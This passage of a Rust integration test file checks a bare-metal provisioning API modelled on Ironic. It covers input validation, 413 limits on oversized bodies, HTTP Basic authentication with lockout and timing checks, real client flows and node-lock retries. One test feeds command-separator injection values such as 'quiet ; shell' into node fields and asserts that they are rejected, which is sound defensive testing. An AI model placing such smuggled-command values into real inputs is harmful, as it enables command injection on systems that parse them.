        ("kernel_append_params", "quiet ; shell"),
        ("nfs_options", "||"),
    ] {
        let body = json!({"name": "sep", "driver": "fake", "instance_info": {field: value}});
        let (status, _, reply) =
            api.call("POST", "/v1/nodes", Some(&body.to_string()), &json_header);
        assert_eq!(status, 400, "{field}={value:?}: {reply}");
        assert!(fault(&reply).contains(&format!("instance_info.{field}")), "{}", fault(&reply));
        assert!(fault(&reply).contains("command separator"), "{}", fault(&reply));
    }
    // A huge body: 413 from its Content-Length, before the server reads it.
    {
        use std::io::{Read, Write};
        let address = api.base.trim_start_matches("http://");
        let mut stream = std::net::TcpStream::connect(address).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let head = format!(
            "POST /v1/nodes HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{{\"name\": \"",
            64 * 1024 * 1024
        );
        stream.write_all(head.as_bytes()).unwrap();
        let _ = stream.write_all(&[b'a'; 4096]);
        let mut reply = Vec::new();
        let _ = stream.read_to_end(&mut reply);
        let reply = String::from_utf8_lossy(&reply);
        assert!(reply.starts_with("HTTP/1.1 413"), "{reply}");
        assert!(reply.contains("error_message"), "{reply}");
    }
    // A chunked body over the limit: 413 once the limit is passed.
    {
        use std::io::{Read, Write};
        let address = api.base.trim_start_matches("http://");
        let mut stream = std::net::TcpStream::connect(address).unwrap();
        stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let head = format!(
            "POST /v1/nodes HTTP/1.1\r\nHost: {address}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).unwrap();
        let chunk = [b'a'; 64 * 1024];
        for _ in 0..20 {
            if stream.write_all(format!("{:x}\r\n", chunk.len()).as_bytes()).is_err()
                || stream.write_all(&chunk).is_err()
                || stream.write_all(b"\r\n").is_err()
            {
                break;
            }
        }
        let mut reply = Vec::new();
        let _ = stream.read_to_end(&mut reply);
        let reply = String::from_utf8_lossy(&reply);
        assert!(reply.starts_with("HTTP/1.1 413"), "{reply}");
    }
    assert!(
        api.v("GET", "/v1/nodes", None).1["nodes"].as_array().unwrap().is_empty(),
        "nothing written"
    );
    // GET and DELETE bodies and content types are not checked (the CLI's quirks).
    let (status, _, _) = api.call(
        "GET",
        "/v1/nodes",
        Some("garbage"),
        &[("Content-Type", "application/octet-stream")],
    );
    assert_eq!(status, 200);
    let (status, _, _) =
        api.call("GET", "/v1/nodes?detail=True", None, &[("Content-Type", "application/json")]);
    assert_eq!(status, 200);
}

#[test]
fn http_basic_refuses_missing_and_wrong_credentials() {
    let api = Api::start(true);
    use base64::Engine;
    let encode = |user: &str, password: &str| {
        format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"))
        )
    };
    // The version documents are public, as in Ironic.
    assert_eq!(api.call("GET", "/", None, &[]).0, 200);
    assert_eq!(api.call("GET", "/v1", None, &[]).0, 200);
    for auth in [
        None,
        Some(encode(USER, "wrong")),
        Some(encode("nobody", PASSWORD)),
        Some("Basic !!!".to_owned()),
    ] {
        let headers: Vec<(&str, &str)> =
            auth.as_deref().map(|a| ("Authorization", a)).into_iter().collect();
        let (status, reply_headers, body) = api.call("GET", "/v1/nodes", None, &headers);
        assert_eq!(status, 401, "{auth:?}");
        assert!(header(&reply_headers, "www-authenticate").is_some());
        assert!(fault(&body).contains("authentication"));
    }
    let good = encode(USER, PASSWORD);
    for _ in 0..2 {
        let (status, _, _) = api.call("GET", "/v1/nodes", None, &[("Authorization", &good)]);
        assert_eq!(status, 200);
    }
    // Failed authentications are limited per (client address, user): past 10 in a minute, 429
    // at once (bcrypt does not run), for an unknown user as for a known one; another user from
    // the same address is still checked; credentials verified before still pass.
    for user in [USER, "no-such-user"] {
        let wrong = encode(user, "guess");
        let mut statuses = Vec::new();
        for _ in 0..12 {
            statuses.push(api.call("GET", "/v1/nodes", None, &[("Authorization", &wrong)]).0);
        }
        assert_eq!(statuses[..10], [401; 10], "{user}: {statuses:?}");
        assert_eq!(statuses[10..], [429; 2], "{user}: {statuses:?}");
        let started = Instant::now();
        let (status, headers, body) =
            api.call("GET", "/v1/nodes", None, &[("Authorization", &wrong)]);
        assert_eq!(status, 429, "{body}");
        assert!(fault(&body).contains("Too many failed authentications"), "{body}");
        assert!(header(&headers, "retry-after").is_some());
        assert!(started.elapsed() < Duration::from_millis(500), "{:?}", started.elapsed());
    }
    let other = encode("someone-else", "guess");
    assert_eq!(api.call("GET", "/v1/nodes", None, &[("Authorization", &other)]).0, 401);
    assert_eq!(api.call("GET", "/v1/nodes", None, &[("Authorization", &good)]).0, 200);
}

#[test]
fn an_unknown_user_costs_what_a_wrong_password_costs() {
    // Cost 10, as `htpasswd -B` writes: a bcrypt check takes tens of milliseconds.
    let dir = tempfile::tempdir().unwrap();
    let htpasswd = dir.path().join("htpasswd");
    std::fs::write(&htpasswd, format!("{USER}:{}\n", bcrypt::hash(PASSWORD, 10).unwrap())).unwrap();
    let text = format!(
        "{}[api]\nauth_strategy = \"http_basic\"\nhttp_basic_auth_user_file = \"{}\"\n",
        config_text(dir.path()),
        htpasswd.display()
    );
    let (addr, _, shutdown) =
        crate::support::start_serve(Config::from_toml(&text, "test").unwrap());
    let api =
        Api { base: format!("http://{addr}"), boot: String::new(), _serve: shutdown, _dir: dir };
    use base64::Engine;
    let time = |user: &str| {
        let auth = format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(format!("{user}:guess"))
        );
        let started = Instant::now();
        assert_eq!(api.call("GET", "/v1/nodes", None, &[("Authorization", &auth)]).0, 401);
        started.elapsed()
    };
    // Four of each (under the limit of 10), interleaved; medians compared.
    let (mut known, mut unknown) = (Vec::new(), Vec::new());
    for _ in 0..4 {
        known.push(time(USER));
        unknown.push(time("nobody"));
    }
    known.sort();
    unknown.sort();
    let (known, unknown) = (known[2], unknown[2]);
    assert!(
        unknown * 2 >= known,
        "an unknown user answered in {unknown:?}, a wrong password in {known:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// The real clients.

fn venv_bin() -> Option<PathBuf> {
    let bin = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/api-venv/bin");
    if bin.join("baremetal").exists() && bin.join("openstack").exists() {
        return Some(bin);
    }
    crate::skip::skip(crate::skip::API_CLIENTS, &format!("no client venv at {}", bin.display()));
    None
}

struct Cli<'a> {
    bin: &'a Path,
    home: tempfile::TempDir,
    api: &'a Api,
    basic: bool,
}

impl Cli<'_> {
    /// Runs a command. `baremetal` always gets `--max-retries 0`: it would retry a 409 for
    /// minutes (real-clients.md), and a command expected to work must work without retries (a
    /// retry would hide a connection the server closed without saying so: tests/it/listener.rs).
    #[allow(clippy::disallowed_methods)]
    fn run(&self, program: &str, args: &[&str]) -> (bool, String) {
        let mut command = Command::new(self.bin.join(program));
        command
            .env_clear()
            .env("PATH", format!("{}:/usr/bin:/bin", self.bin.display()))
            .env("HOME", self.home.path())
            .env("XDG_CACHE_HOME", self.home.path().join("cache"))
            .env("PYTHONWARNINGS", "ignore");
        command.arg("--os-endpoint").arg(&self.api.base);
        if program == "baremetal" {
            command.args(["--max-retries", "0"]);
        }
        if self.basic {
            command.args([
                "--os-auth-type",
                "http_basic",
                "--os-username",
                USER,
                "--os-password",
                PASSWORD,
            ]);
        } else {
            command.args(["--os-auth-type", "none"]);
        }
        let output = command.args(args).output().expect("client runs");
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        (output.status.success(), text)
    }

    fn ok(&self, program: &str, args: &[&str]) -> String {
        let (ok, text) = self.run(program, args);
        assert!(ok, "{program} {args:?} failed:\n{text}");
        text
    }

    fn json(&self, program: &str, args: &[&str]) -> Value {
        let text = self.ok(program, args);
        serde_json::from_str(&text).unwrap_or_else(|e| panic!("{program} {args:?}: {e}\n{text}"))
    }
}

/// The CLI flow of real-clients.md §1 with `prefix` (`baremetal` or `openstack baremetal`).
fn cli_flow(cli: &Cli<'_>, program: &str, prefix: &[&str], name: &str, mac: &str) {
    let args = |rest: &[&str]| -> Vec<String> {
        prefix.iter().chain(rest).map(|s| (*s).to_owned()).collect()
    };
    let run = |rest: &[&str]| -> String {
        let a = args(rest);
        cli.ok(program, &a.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let json = |rest: &[&str]| -> Value {
        let a = args(rest);
        cli.json(program, &a.iter().map(String::as_str).collect::<Vec<_>>())
    };
    let node = json(&[
        "node",
        "create",
        "--driver",
        "fake",
        "--name",
        name,
        "--driver-info",
        "fake_password=pw",
        "--property",
        "capabilities=iscsi_boot:true",
        "-f",
        "json",
    ]);
    let uuid = node["uuid"].as_str().unwrap().to_owned();
    assert_eq!(node["driver_info"]["fake_password"], "******");
    assert!(run(&["node", "list"]).contains(name));
    assert!(run(&["node", "list", "--long"]).contains("fake"));
    assert_eq!(json(&["node", "show", name, "-f", "json"])["uuid"], uuid.as_str());
    run(&["node", "set", name, "--storage-interface", "external"]);
    assert_eq!(json(&["node", "show", name, "-f", "json"])["storage_interface"], "external");
    run(&["port", "create", mac, "--node", &uuid]);
    assert!(run(&["port", "list", "--node", &uuid]).contains(mac));
    let connector = json(&[
        "volume",
        "connector",
        "create",
        "--node",
        &uuid,
        "--type",
        "iqn",
        "--connector-id",
        &format!("iqn.2024-01.org.example.node:{name}"),
        "-f",
        "json",
    ]);
    let target = json(&[
        "volume",
        "target",
        "create",
        "--node",
        &uuid,
        "--type",
        "iscsi",
        "--boot-index",
        "0",
        "--volume-id",
        &format!("vol-{name}"),
        "--property",
        "target_iqn=iqn.2024-01.org.example.san:v1",
        "--property",
        "target_portal=192.0.2.5:3260",
        "--property",
        "target_lun=1",
        "--property",
        "auth_method=CHAP",
        "--property",
        "auth_username=u",
        "--property",
        "auth_password=chap-pw",
        "-f",
        "json",
    ]);
    assert_eq!(target["properties"]["auth_password"], "******");
    assert!(
        run(&["volume", "connector", "list", "--node", &uuid])
            .contains(connector["uuid"].as_str().unwrap())
    );
    assert!(
        run(&["volume", "target", "list", "--node", &uuid])
            .contains(target["uuid"].as_str().unwrap())
    );
    let shown = run(&["volume", "target", "show", target["uuid"].as_str().unwrap()]);
    assert!(!shown.contains("chap-pw"), "{shown}");
    run(&["node", "manage", name, "--wait", "30"]);
    run(&["node", "provide", name, "--wait", "30"]);
    let validation = run(&["node", "validate", name]);
    assert!(validation.contains("storage"), "{validation}");
    run(&["node", "deploy", name, "--wait", "30"]);
    assert_eq!(json(&["node", "show", name, "-f", "json"])["provision_state"], "active");
    run(&["node", "maintenance", "set", name, "--reason", "swap NIC"]);
    let shown = json(&["node", "show", name, "-f", "json"]);
    assert_eq!(
        (&shown["maintenance"], &shown["maintenance_reason"]),
        (&json!(true), &json!("swap NIC"))
    );
    run(&["node", "maintenance", "unset", name]);
    assert_eq!(json(&["node", "show", name, "-f", "json"])["maintenance"], false);
    let try_run = |rest: &[&str]| -> (bool, String) {
        let a = args(rest);
        cli.run(program, &a.iter().map(String::as_str).collect::<Vec<_>>())
    };
    if program == "baremetal" {
        // 409: deployed (the `baremetal` shell gets --max-retries 0: Cli::run).
        let (ok, text) = try_run(&["node", "delete", name]);
        assert!(!ok && text.contains("HTTP 409"), "{text}");
        // 400: a deployed, powered-on node's volume targets are frozen.
        let (ok, text) = try_run(&["volume", "target", "delete", target["uuid"].as_str().unwrap()]);
        assert!(!ok && text.contains("in state \"power on\" (power it off first)"), "{text}");
    }
    run(&["node", "power", "off", name]);
    run(&["node", "undeploy", name, "--wait", "30"]);
    run(&["volume", "target", "delete", target["uuid"].as_str().unwrap()]);
    run(&["volume", "connector", "delete", connector["uuid"].as_str().unwrap()]);
    let (ok, text) = try_run(&["node", "show", "no-such-node"]);
    assert!(!ok && text.contains("could not be found") && text.contains("HTTP 404"), "{text}");
    run(&["node", "delete", name]);
}

#[test]
fn real_baremetal_cli_noauth_and_http_basic() {
    let Some(bin) = venv_bin() else { return };
    for basic in [false, true] {
        let api = Api::start(basic);
        let cli = Cli { bin: &bin, home: tempfile::tempdir().unwrap(), api: &api, basic };
        let started = Instant::now();
        cli_flow(&cli, "baremetal", &[], "cli-1", "52:54:00:bb:00:01");
        eprintln!("baremetal flow (http_basic: {basic}) took {:?}", started.elapsed());
    }
}

#[test]
fn real_openstack_cli_noauth_and_http_basic() {
    let Some(bin) = venv_bin() else { return };
    for basic in [false, true] {
        let api = Api::start(basic);
        let cli = Cli { bin: &bin, home: tempfile::tempdir().unwrap(), api: &api, basic };
        let started = Instant::now();
        cli_flow(&cli, "openstack", &["baremetal"], "osc-1", "52:54:00:bb:00:02");
        eprintln!("openstack baremetal flow (http_basic: {basic}) took {:?}", started.elapsed());
    }
}

#[test]
#[allow(clippy::disallowed_methods)]
fn real_openstacksdk_noauth_and_http_basic() {
    let Some(bin) = venv_bin() else { return };
    for basic in [false, true] {
        let api = Api::start(basic);
        let home = tempfile::tempdir().unwrap();
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/api/sdk_flow.py");
        let mut command = Command::new(bin.join("python"));
        command
            .env_clear()
            .env("HOME", home.path())
            .env("PYTHONWARNINGS", "ignore")
            .arg(&script)
            .arg(&api.base);
        if basic {
            command.args([USER, PASSWORD]);
        }
        let started = Instant::now();
        let output = command.output().unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(output.status.success() && text.contains("ALL OK"), "openstacksdk flow:\n{text}");
        eprintln!("openstacksdk flow (http_basic: {basic}) took {:?}", started.elapsed());
    }
}

/// Ironic's conductor retries a held lock (`[conductor] node_locked_retry_attempts = 3`,
/// `node_locked_retry_interval = 1`) before answering 409: a volume target deleted while a
/// power action holds its node, released a moment later, waits for it and is deleted; an edit
/// that meets a lock held past the tries is refused after them, naming the holder, and
/// nothing changes.
#[test]
fn a_held_lock_is_retried_before_a_409() {
    let api = Api::start(false);
    let (status, node) = api.v("POST", "/v1/nodes", Some(json!({"name": "n1", "driver": "fake"})));
    assert_eq!(status, 201, "{node}");
    let uuid = node["uuid"].as_str().unwrap().to_owned();
    let target = json!({"node_uuid": uuid, "volume_type": "iscsi", "boot_index": 0,
        "volume_id": "vol-1", "properties": {}});
    let (status, target) = api.v("POST", "/v1/volume/targets", Some(target));
    assert_eq!(status, 201, "{target}");
    let target = format!("/v1/volume/targets/{}", target["uuid"].as_str().unwrap());
    let db = crate::support::open_db_ok(api._dir.path()).unwrap();
    let power = bootvol_db::ActionToken::new("power");
    let now = bootvol_core::timefmt::now_unix() as i64;
    db.try_lock_node(&uuid, &power, now, bootvol_db::LEASE_SECS).unwrap().unwrap();
    // Released 1.2 s later: after the first try, before the last.
    let releaser = std::thread::spawn({
        let (db, uuid, power) =
            (crate::support::open_db_ok(api._dir.path()).unwrap(), uuid.clone(), power.clone());
        move || {
            std::thread::sleep(Duration::from_millis(1200));
            db.unlock_node(&uuid, &power).unwrap();
        }
    });
    let started = Instant::now();
    let (status, body) = api.v("DELETE", &target, None);
    let waited = started.elapsed();
    releaser.join().unwrap();
    assert_eq!(status, 204, "{body}");
    assert!(waited >= Duration::from_secs(1), "deleted after {waited:?}, the lock still held");
    assert_eq!(api.v("GET", &target, None).0, 404);

    // Held past the tries: refused after two intervals.
    db.try_lock_node(&uuid, &power, now, bootvol_db::LEASE_SECS).unwrap().unwrap();
    let started = Instant::now();
    let patch = json!([{"op": "add", "path": "/extra/x", "value": 1}]);
    let (status, body) = api.v("PATCH", "/v1/nodes/n1", Some(patch));
    let waited = started.elapsed();
    assert_eq!(status, 409, "{body}");
    assert!(fault(&body).contains("is locked by power"), "{}", fault(&body));
    assert!(waited >= Duration::from_secs(2), "refused after {waited:?}, before the last try");
    db.unlock_node(&uuid, &power).unwrap();
    let (_, after) = api.v("GET", "/v1/nodes/n1", None);
    assert_eq!(after["extra"], json!({}), "{after}");
}
